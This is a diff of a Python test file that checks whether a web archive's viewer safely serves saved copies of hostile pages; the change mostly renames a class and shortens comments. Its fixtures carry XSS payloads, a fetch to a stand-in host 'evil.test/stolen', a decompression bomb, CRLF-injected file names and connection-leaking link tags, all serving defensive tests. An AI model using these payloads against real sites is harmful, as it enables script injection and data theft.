@@ -1,4 +1,4 @@
-"""What hostile pages try on whoever looks at them: over HTTP, and in a browser."""
+"""Archived copies of hostile pages, over HTTP and in a browser."""
 
 import gzip
 import select
@@ -26,8 +26,8 @@ SCRIPT = """<html><head><title></title><script>fetch('http://evil.test/stolen')<
 TITLE = "</title><script>alert(1)</script><img src=x onerror=alert(2)>\0\u202e"
 
 
-class Stranger(NamedTuple):
-    """A page of somebody who means no good: its body and its headers as they came over the wire."""
+class HostilePage(NamedTuple):
+    """A hostile page, as received: body and headers."""
 
     path: str
     body: bytes
@@ -36,41 +36,41 @@ class Stranger(NamedTuple):
     outcome: Outcome = Outcome.FETCHED
 
 
-STRANGERS = (
-    Stranger("/script", SCRIPT.encode(), "text/html"),
-    Stranger("/charset", SCRIPT.encode(), 'text/html; charset="><script>alert(1)</script>'),
-    Stranger("/utf7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4- pizza", "text/html; charset=utf-7"),
-    Stranger("/utf16", f"\ufeff{SCRIPT}".encode("utf-16-le"), "text/html"),
-    Stranger("/latin", "<p>Straße in Köln, pizza".encode("latin-1"), "text/html; charset=utf-8"),
-    Stranger("/nul", b"<p>pi\0zza\0 \xff\xfe\x00\x80</p>", "text/html"),
-    Stranger("/links", b"<link rel=preconnect href=//evil.test><IFRAME/rel=preconnect href=//evil.test> <links> &lt;link <frames>", "text/html"),
-    Stranger("/xhtml", b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>', "application/xhtml+xml"),
-    Stranger("/refresh", b"<META\nhttp-equiv=refresh content='0;url=//evil.test'><meta name=referrer content=unsafe-url>pizza", "text/html"),
-    Stranger("/xslt.xml", b"<?xml-stylesheet type='text/xsl' href='#x'?><x/>", "text/xml"),
-    Stranger("/parts", b"--x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>\r\n--x--", "multipart/x-mixed-replace; boundary=x"),
-    Stranger("/svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "image/svg+xml"),
-    Stranger("/script.js", b"alert(1)", "text/javascript"),
-    Stranger("/none", b"<script>alert(1)</script>", ""),
-    Stranger("/plain", b"<script>alert(1)</script>", "text/plain"),
-    Stranger('/na"me;\r\n.pdf', b"%PDF-1.4 <script>alert(1)</script>", "application/pdf"),
-    Stranger("/packed", gzip.compress(SCRIPT.encode()), "text/html", "gzip"),
-    Stranger("/bomb", zlib.compress(b"\0" * 100_000_000), "text/html", "deflate"),
-    Stranger("/broken", gzip.compress(SCRIPT.encode())[:40], "text/html", "gzip"),
-    Stranger("/noindex", SCRIPT.encode(), "text/html", outcome=Outcome.NO_INDEX),
+HOSTILE_PAGES = (
+    HostilePage("/script", SCRIPT.encode(), "text/html"),
+    HostilePage("/charset", SCRIPT.encode(), 'text/html; charset="><script>alert(1)</script>'),
+    HostilePage("/utf7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4- pizza", "text/html; charset=utf-7"),
+    HostilePage("/utf16", f"\ufeff{SCRIPT}".encode("utf-16-le"), "text/html"),
+    HostilePage("/latin", "<p>Straße in Köln, pizza".encode("latin-1"), "text/html; charset=utf-8"),
+    HostilePage("/nul", b"<p>pi\0zza\0 \xff\xfe\x00\x80</p>", "text/html"),
+    HostilePage("/links", b"<link rel=preconnect href=//evil.test><IFRAME/rel=preconnect href=//evil.test> <links> &lt;link <frames>", "text/html"),
+    HostilePage("/xhtml", b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>', "application/xhtml+xml"),
+    HostilePage("/refresh", b"<META\nhttp-equiv=refresh content='0;url=//evil.test'><meta name=referrer content=unsafe-url>pizza", "text/html"),
+    HostilePage("/xslt.xml", b"<?xml-stylesheet type='text/xsl' href='#x'?><x/>", "text/xml"),
+    HostilePage("/parts", b"--x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>\r\n--x--", "multipart/x-mixed-replace; boundary=x"),
+    HostilePage("/svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "image/svg+xml"),
+    HostilePage("/script.js", b"alert(1)", "text/javascript"),
+    HostilePage("/none", b"<script>alert(1)</script>", ""),
+    HostilePage("/plain", b"<script>alert(1)</script>", "text/plain"),
+    HostilePage('/na"me;\r\n.pdf', b"%PDF-1.4 <script>alert(1)</script>", "application/pdf"),
+    HostilePage("/packed", gzip.compress(SCRIPT.encode()), "text/html", "gzip"),
+    HostilePage("/bomb", zlib.compress(b"\0" * 100_000_000), "text/html", "deflate"),
+    HostilePage("/broken", gzip.compress(SCRIPT.encode())[:40], "text/html", "gzip"),
+    HostilePage("/noindex", SCRIPT.encode(), "text/html", outcome=Outcome.NO_INDEX),
 )  # fmt: skip
 
 
-def url_of(stranger: Stranger) -> str:
-    return EVIL + quote(stranger.path)
+def url_of(page: HostilePage) -> str:
+    return EVIL + quote(page.path)
 
 
-def crawled(root: Path, strangers: tuple[Stranger, ...]) -> Path:
+def crawled(root: Path, pages: tuple[HostilePage, ...]) -> Path:
     """A crawl with these pages in its log and its archive."""
     log: list[Visit] = []
     with ArchiveWriter(
         root / "archive", "main", max_bytes=10**9, info={"software": "test"}
     ) as archive:
-        for number, one in enumerate(strangers):
+        for number, one in enumerate(pages):
             packed = f"Content-Encoding: {one.encoding}\r\n" if one.encoding else ""
             head = f"HTTP/1.1 200 OK\r\nContent-Type: {one.content_type}\r\n{packed}Refresh: 0;url={EVIL}\r\nLink: <{EVIL}>; rel=preload\r\n\r\n"
             fetched = Response(
@@ -88,7 +88,7 @@ def crawled(root: Path, strangers: tuple[Stranger, ...]) -> Path:
 def base(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
     folder = tmp_path_factory.mktemp("evil") / "crawl"
     folder.mkdir()
-    with serve(crawled(folder, STRANGERS)) as url:
+    with serve(crawled(folder, HOSTILE_PAGES)) as url:
         yield url
 
 
@@ -96,7 +96,7 @@ def archived(base: str, path: str) -> Answered:
     return get(base, f"/archived?url={quote(EVIL + quote(path), safe='')}")
 
 
-# --- what hostile pages send -----------------------------------------------------------------------------------------
+# --- over HTTP ------------------------------------------------------------------------------------
 
 
 def test_a_copy_is_sandboxed(base: str) -> None:
@@ -115,7 +115,7 @@ def test_a_copy_is_sandboxed(base: str) -> None:
     assert answer.headers["referrer-policy"] == "no-referrer"
 
 
-def test_nothing_of_the_stranger_s_headers_is_passed_on(base: str) -> None:
+def test_the_page_s_headers_are_not_sent(base: str) -> None:
     assert (
         not {"refresh", "link", "set-cookie", "location"} & archived(base, "/script").headers.keys()
     )
@@ -139,7 +139,7 @@ def test_nothing_of_the_stranger_s_headers_is_passed_on(base: str) -> None:
     ],
     ids=repr,
 )
-def test_the_type_of_a_copy_is_ours(base: str, path: str, media: str) -> None:
+def test_the_content_type_of_a_copy(base: str, path: str, media: str) -> None:
     answer = archived(base, path)
     assert (answer.status, answer.headers["content-type"]) == (200, media)
     assert answer.headers["x-content-type-options"] == "nosniff"
@@ -165,25 +165,25 @@ def test_the_type_of_a_copy_is_ours(base: str, path: str, media: str) -> None:
         ),
     ],
 )
-def test_a_copy_has_the_characters_that_were_read(base: str, path: str, text: str) -> None:
+def test_a_copy_has_the_decoded_characters(base: str, path: str, text: str) -> None:
     assert archived(base, path).body.decode() == text
 
 
-def test_the_name_of_a_file_cannot_break_out(base: str) -> None:
+def test_file_names_are_escaped(base: str) -> None:
     kept = archived(base, '/na"me;\r\n.pdf').headers["content-disposition"]
     assert kept == 'attachment; filename="na-22me-3B-0D-0A.pdf"'
 
 
 @pytest.mark.parametrize("path", ["/bomb", "/broken", "/noindex"])
 def test_a_copy_that_is_not_shown(base: str, path: str) -> None:
-    """A bomb of 100 MB, half a file, and a page that asked not to be shown."""
+    """A decompression bomb of 100 MB, half a file, and a noindex page."""
     answer = archived(base, path)
     assert answer.status == 404
     assert set(answer.json) == {"error", "cure"}
 
 
 def test_markup_in_titles_and_texts_is_text(base: str) -> None:
-    """It leaves as JSON, under a type that no browser reads as a page."""
+    """It is sent as JSON, which no browser shows as a page."""
     for path in (
         "/api/search?q=pizza",
         "/api/search.geojson?q=pizza",
@@ -199,14 +199,14 @@ def test_markup_in_titles_and_texts_is_text(base: str) -> None:
     assert page["text"] == f"Pizza {TITLE}"
 
 
-def test_what_is_wrong_is_told_without_markup(base: str) -> None:
+def test_errors_contain_no_markup(base: str) -> None:
     answer = get(base, f"/api/search?limit={quote('<script>alert(1)</script>')}")
     assert (answer.status, answer.headers["content-type"]) == (400, "application/json")
     assert get(base, f"/api/page?url={quote('javascript:alert(1)')}").status == 400
     assert get(base, f"/archived?url={quote('javascript:alert(1)')}").status == 404
 
 
-# --- in a browser ----------------------------------------------------------------------------------------------------
+# --- in a browser ---------------------------------------------------------------------------------
 
 LEAKS = """<html><head><title>still</title><meta http-equiv="refresh" content="0;url=X/refresh"><base href="X/base/">
 <link rel=preconnect href="X"><link rel="dns-prefetch" href="X"><link rel=prefetch href="X/prefetch"><link rel=preload as=image href="X/p">
@@ -228,12 +228,12 @@ def browser() -> Iterator[Browser]:
 
 @pytest.mark.parametrize("framed", [False, True], ids=["in a tab", "in a frame"])
 def test_a_copy_in_a_browser_does_nothing(tmp_path: Path, browser: Browser, framed: bool) -> None:
-    """Nothing of it runs, and nobody hears that it is looked at: not even a connection is made."""
+    """Nothing of it runs, and it makes no connection."""
     folder = tmp_path / "crawl"
     folder.mkdir()
     with socket.create_server(("127.0.0.1", 0)) as stranger:
         theirs = f"http://127.0.0.1:{stranger.getsockname()[1]}"
-        crawled(folder, (Stranger("/leaks", LEAKS.replace("X", theirs).encode(), "text/html"),))
+        crawled(folder, (HostilePage("/leaks", LEAKS.replace("X", theirs).encode(), "text/html"),))
         with serve(folder) as base:
             page = browser.new_page()
             page.goto(f"{base}/" if framed else f"{base}/archived?url={EVIL}/leaks")
@@ -246,4 +246,4 @@ def test_a_copy_in_a_browser_does_nothing(tmp_path: Path, browser: Browser, fram
             assert framed or page.title() == "still"
             assert "ran" not in page.title()
             page.close()
-        assert select.select([stranger], [], [], 0) == ([], [], [])  # nobody wants in
+        assert select.select([stranger], [], [], 0) == ([], [], [])  # no connection
